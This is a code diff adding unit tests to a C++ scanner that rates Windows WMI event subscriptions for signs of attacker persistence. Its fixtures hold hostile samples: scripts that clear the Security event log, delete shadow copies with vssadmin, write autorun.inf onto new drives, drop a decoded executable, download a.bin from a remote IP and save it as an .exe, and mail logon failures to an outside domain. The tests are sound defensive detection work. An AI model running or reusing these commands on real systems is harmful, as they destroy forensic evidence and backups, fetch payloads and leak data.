@@ -3,11 +3,13 @@
 
 #include "wmisub/assess.hpp"
 #include "wmisub/collector.hpp"
+#include "wmisub/engine.hpp"
 #include "annotations.hpp"
 
 #include <doctest/doctest.h>
 
 #include <algorithm>
+#include <map>
 #include <optional>
 #include <set>
 #include <string>
@@ -413,4 +415,192 @@ TEST_CASE("evidence from long payloads: excerpts cut between words, the whole te
     CHECK_FALSE(evidence_source_of(facts, evidence{"Consumer.NoSuchProperty", "x", {}}));
     CHECK_FALSE(evidence_source_of(facts, evidence{"Consumer.CommandLineTemplate>rot13", "x", {}}));
     CHECK_FALSE(evidence_source_of(facts, evidence{"nodot", "x", {}}));
+}
+
+// --- behaviours, provenance and host trust (the evidence classes) --------------------------------
+
+namespace {
+
+const char* const logon_query = "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession'";
+
+// The findings (id -> severity) of the only entry a source gives, assessed with `host`.
+std::map<std::string, severity> findings_with_host(mock_collector& source, const host_context& host) {
+    auto snap = source.collect({});
+    REQUIRE(snap);
+    const engine e(rule_catalog::builtin(), {}, {}, host);
+    scanner s(e);
+    const std::vector<assessment> results = s.assess_all(s.build_graph(std::move(*snap)));
+    REQUIRE(results.size() == 1);
+    std::map<std::string, severity> out;
+    for (const finding& f : results[0].findings) out[std::string(f.id())] = f.severity;
+    return out;
+}
+
+}  // namespace
+
+TEST_CASE("every built-in rule says what kind of evidence it gives") {
+    const rule_catalog catalog = rule_catalog::builtin();
+    std::size_t context = 0;
+    for (const auto& r : catalog.rules()) {
+        CAPTURE(r->id);
+        if (r->evidence_class == evidence_class::context) ++context;
+        // Rules about when and where a subscription fires are context; rules about what it does are not.
+        if (r->id.starts_with("WMISUB-PAY-00") && r->id != "WMISUB-PAY-009") CHECK(r->evidence_class == evidence_class::behaviour);
+    }
+    CHECK(catalog.find("WMISUB-STR-001")->evidence_class == evidence_class::context);
+    CHECK(catalog.find("WMISUB-TRG-001")->evidence_class == evidence_class::provenance);
+    CHECK(catalog.find("WMISUB-STR-015")->evidence_class == evidence_class::provenance);
+    CHECK(context >= 20);
+    rule mine;  // a host's own rule counts as behaviour unless it says otherwise
+    CHECK(mine.evidence_class == evidence_class::behaviour);
+}
+
+TEST_CASE("context alone stays below high: a boot-time shell from a temporary folder is not an attack by itself") {
+    mock_collector source;
+    source.filter("F", logon_query).command_line_consumer("C", "cmd.exe /c \"C:\\Scripts\\inventory.cmd\"").bind("F", "C");
+    auto snap = source.collect({});
+    const subscription_graph graph(*snap);
+    const auto results = assess(graph, rule_catalog::builtin());
+    REQUIRE(results.size() == 1);
+    CHECK(results[0].risk.context_only);
+    CHECK(results[0].risk.score <= context_ceiling);
+    CHECK(results[0].risk.severity == severity::medium);
+}
+
+TEST_CASE("clearing event logs through WMI itself is anti-forensics") {
+    const auto ids = script_rules(
+        "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_LocalTime' AND TargetInstance.Hour = 2",
+        "Set logs = GetObject(\"winmgmts:{(Backup,Security)}!\\\\.\\root\\cimv2\").ExecQuery(\"Select * from Win32_NTEventLogFile\")\n"
+        "For Each l in logs\n  l.ClearEventLog()\nNext");
+    CHECK(has(ids, "WMISUB-PAY-003"));
+    CHECK(has(rules_for(boot_query, "powershell -c \"Clear-EventLog -LogName Security\""), "WMISUB-PAY-003"));
+    CHECK(has(rules_for(boot_query, "cmd /c vssadmin delete shadows /all /quiet"), "WMISUB-PAY-003"));
+}
+
+TEST_CASE("a shell started with nothing to do runs what it loads by itself") {
+    const char* const notepad = "SELECT * FROM __InstanceCreationEvent WITHIN 3 WHERE TargetInstance ISA 'Win32_Process' AND TargetInstance.Name = 'notepad.exe'";
+    CHECK(has(rules_for(notepad, "cmd.exe"), "WMISUB-PAY-018"));        // AutoRun
+    CHECK(has(rules_for(notepad, "powershell.exe"), "WMISUB-PAY-018"));  // profiles
+    CHECK_FALSE(has(rules_for(notepad, "cmd.exe /d"), "WMISUB-PAY-018"));
+    CHECK_FALSE(has(rules_for(notepad, "cmd.exe /c ver"), "WMISUB-PAY-018"));
+}
+
+TEST_CASE("re-running code every few seconds, and Empire's aggregated clock") {
+    mock_collector fast;
+    fast.filter("F", "SELECT * FROM __TimerEvent WHERE TimerID = 'T'").command_line_consumer("C", "x.exe").bind("F", "C").interval_timer("T", 10000);
+    CHECK(has(fired(fast)[0], "WMISUB-TRG-015"));
+    mock_collector slow;
+    slow.filter("F", "SELECT * FROM __TimerEvent WHERE TimerID = 'T'").command_line_consumer("C", "x.exe").bind("F", "C").interval_timer("T", 600000);
+    CHECK_FALSE(has(fired(slow)[0], "WMISUB-TRG-015"));
+    const std::string empire =
+        "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime' AND "
+        "TargetInstance.Hour = 10 AND TargetInstance.Minute = 30 GROUP WITHIN 60";
+    CHECK(has(rules_for(empire, "x.exe"), "WMISUB-TRG-014"));
+    CHECK_FALSE(has(rules_for("SELECT * FROM __InstanceModificationEvent WHERE TargetInstance ISA 'Win32_LocalTime' AND "
+                              "TargetInstance.Hour = 10 AND TargetInstance.Minute = 30 AND TargetInstance.Second = 0",
+                              "x.exe"),
+                    "WMISUB-TRG-014"));
+}
+
+TEST_CASE("programs from places no installer uses, at logon, boot or program start") {
+    CHECK(has(rules_for(logon_query, "C:\\update.exe -s"), "WMISUB-CMB-003"));
+    CHECK(has(rules_for(logon_query, "C:\\Users\\Public\\svc.exe"), "WMISUB-CMB-003"));
+    CHECK_FALSE(has(rules_for(logon_query, "\"C:\\Program Files\\Vendor\\agent.exe\""), "WMISUB-CMB-003"));
+    // Microsoft's samples run c:\asec2.vbs when calc exits: a drive root on another trigger is a test's habit.
+    const char* const calc_exit = "SELECT * FROM __InstanceDeletionEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process' AND TargetInstance.Name = 'calc.exe'";
+    CHECK_FALSE(has(rules_for(calc_exit, "c:\\cmdline_test.bat"), "WMISUB-CMB-003"));
+    // A folder the host approves is not evidence.
+    host_context host;
+    host.approved_folders = {"C:\\Users\\Public\\Tools\\"};
+    mock_collector approved;
+    approved.filter("F", logon_query).command_line_consumer("C", "C:\\Users\\Public\\Tools\\inv.exe").bind("F", "C");
+    const auto found = findings_with_host(approved, host);
+    CHECK(found.count("WMISUB-CMB-003") == 0);
+    CHECK(found.count("WMISUB-PAY-009") == 0);
+}
+
+TEST_CASE("writing onto an arriving drive is replication; logging its arrival is not") {
+    const char* const arrival = "SELECT * FROM Win32_VolumeChangeEvent WHERE EventType = 2";
+    const auto spread = script_rules(arrival,
+                                     "Set fso = CreateObject(\"Scripting.FileSystemObject\")\nd = TargetEvent.DriveName\n"
+                                     "Set f = fso.CreateTextFile(d & \"\\autorun.inf\", True)\nf.WriteLine \"[autorun]\"\nf.Close");
+    CHECK(has(spread, "WMISUB-CMB-005"));
+    const auto log = script_rules(arrival,
+                                  "Set fso = CreateObject(\"Scripting.FileSystemObject\")\n"
+                                  "Set f = fso.OpenTextFile(\"C:\\Logs\\usb.log\", 8, True)\nf.WriteLine Now & \" drive arrived\"\nf.Close");
+    CHECK_FALSE(has(log, "WMISUB-CMB-005"));
+}
+
+TEST_CASE("a script that decodes data and writes it out is a dropper") {
+    const auto ids = script_rules(
+        "SELECT * FROM __TimerEvent WHERE TimerID = 'T'",
+        "Function Dec(s)\n  Const B = \"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/\"\n  Dec = s\nEnd Function\n"
+        "Set fso = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.CreateTextFile(\"C:\\Windows\\Temp\\m.exe\", True)\n"
+        "f.Write Dec(\"TVqQAAMAAAAEAAAA\")\nf.Close");
+    CHECK(has(ids, "WMISUB-CMB-006"));
+}
+
+TEST_CASE("mail: the host's trusted domains decide, and without them wmisub does not guess") {
+    const char* const failures = "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_NTLogEvent' AND TargetInstance.EventCode = 4625";
+    const auto mail = [&](std::string to, std::string server) {
+        mock_collector m;
+        m.filter("F", failures).smtp_consumer("M", std::move(server), std::move(to), "%TargetInstance.Message%").bind("F", "M", "SMTPEventConsumer");
+        return m;
+    };
+    host_context none;
+    auto soc = mail("soc@corp.example", "smtp.corp.example");
+    const auto unknown = findings_with_host(soc, none);
+    CHECK(unknown.count("WMISUB-PAY-021") == 1);  // no policy: medium, as it was
+    CHECK(unknown.count("WMISUB-CMB-007") == 0);
+    host_context corp;
+    corp.trusted_domains = {"corp.example"};
+    auto soc_again = mail("SOC <soc@corp.example>; noc@eu.corp.example", "smtp.corp.example");
+    const auto trusted = findings_with_host(soc_again, corp);
+    CHECK(trusted.count("WMISUB-PAY-021") == 0);
+    CHECK(trusted.count("WMISUB-CMB-007") == 0);
+    auto outside = mail("soc@corp.example, drop@mail.example.net", "smtp.corp.example");
+    const auto leaked = findings_with_host(outside, corp);
+    CHECK(leaked.count("WMISUB-CMB-007") == 1);
+    auto templated = mail("%TargetInstance.User%@corp.example", "smtp.corp.example");
+    CHECK(findings_with_host(templated, corp).count("WMISUB-CMB-007") == 1);
+}
+
+TEST_CASE("a creator no logon can have is forged provenance") {
+    for (const char* sid : {"S-1-1-0", "S-1-5-32-545", "S-1-5-11", "S-1-5-21-1-2-3-513", "S-1-0-0"}) {
+        CAPTURE(sid);
+        mock_collector m;
+        m.created_by(sid).filter("F", boot_query).command_line_consumer("C", "x.exe").bind("F", "C");
+        const auto ids = fired(m)[0];
+        CHECK(has(ids, "WMISUB-STR-015"));
+        CHECK_FALSE(has(ids, "WMISUB-STR-007"));
+    }
+    for (const char* sid : {"S-1-5-32-544", "S-1-5-18", "S-1-5-21-1-2-3-1105", "S-1-5-20"}) {
+        CAPTURE(sid);
+        mock_collector m;
+        m.created_by(sid).filter("F", boot_query).command_line_consumer("C", "x.exe").bind("F", "C");
+        CHECK_FALSE(has(fired(m)[0], "WMISUB-STR-015"));
+    }
+    host_context host;  // an expected creator is not evidence
+    host.expected_creator_sids = {"S-1-5-21-1-2-3-1105"};
+    mock_collector m;
+    m.created_by("S-1-5-21-1-2-3-1105").filter("F", boot_query).command_line_consumer("C", "x.exe").bind("F", "C");
+    CHECK(findings_with_host(m, host).count("WMISUB-STR-007") == 0);
+}
+
+TEST_CASE("network use is graded: fetching or uploading is high, a request medium, this machine low") {
+    const auto severity_of = [](const std::string& script) {
+        mock_collector m;
+        m.filter("F", boot_query).script_consumer("S", script).bind("F", "S", "ActiveScriptEventConsumer");
+        auto snap = m.collect({});
+        const subscription_graph graph(*snap);
+        const std::vector<assessment> results = assess(graph, rule_catalog::builtin());
+        for (const finding& f : results[0].findings) {
+            if (f.id() == "WMISUB-PAY-006") return std::optional<severity>(f.severity);
+        }
+        return std::optional<severity>();
+    };
+    CHECK(severity_of("Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"POST\", \"http://127.0.0.1:8000/\", False\nh.Send \"x\"") == severity::low);
+    CHECK(severity_of("Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"POST\", \"http://collector.example/\", False\nh.Send \"x\"") == severity::medium);
+    CHECK(severity_of("Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\nh.Open \"GET\", \"http://203.0.113.7/a.bin\", False\nh.Send\n"
+                      "Set s = CreateObject(\"ADODB.Stream\")\ns.Write h.responseBody\ns.SaveToFile \"C:\\ProgramData\\a.exe\", 2") == severity::high);
 }
